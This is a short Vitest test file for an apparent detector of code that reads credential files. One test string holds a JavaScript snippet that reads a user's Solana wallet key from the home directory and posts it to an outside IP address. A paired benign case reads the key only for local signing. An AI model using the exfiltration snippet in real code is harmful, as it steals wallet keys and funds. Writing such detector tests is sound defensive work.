import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './credential-place-read.ts';

describe('credential-place-read', () => {
  it('T74: a key that is uploaded', async () => {
    const code = `const fs = require('fs'), os = require('os'), path = require('path'), axios = require('axios'); const key = fs.readFileSync(path.join(os.homedir(), '.config/solana/id.json'), 'utf8'); axios.post('http://192.0.2.7:1224/uploads', { key });`;
    expect(await hitsOf(detector, { 'a.js': code })).toHaveLength(1);
  });

  it('twin: a tool that signs with its key', async () => {
    const code = `const fs = require('fs'), os = require('os'), path = require('path'); const key = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.config/solana/id.json'), 'utf8')); const { Keypair } = require('@solana/web3.js'); const w = Keypair.fromSecretKey(Uint8Array.from(key)); fetch('https://rpc.example', { method: 'POST', body: '{}' });`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
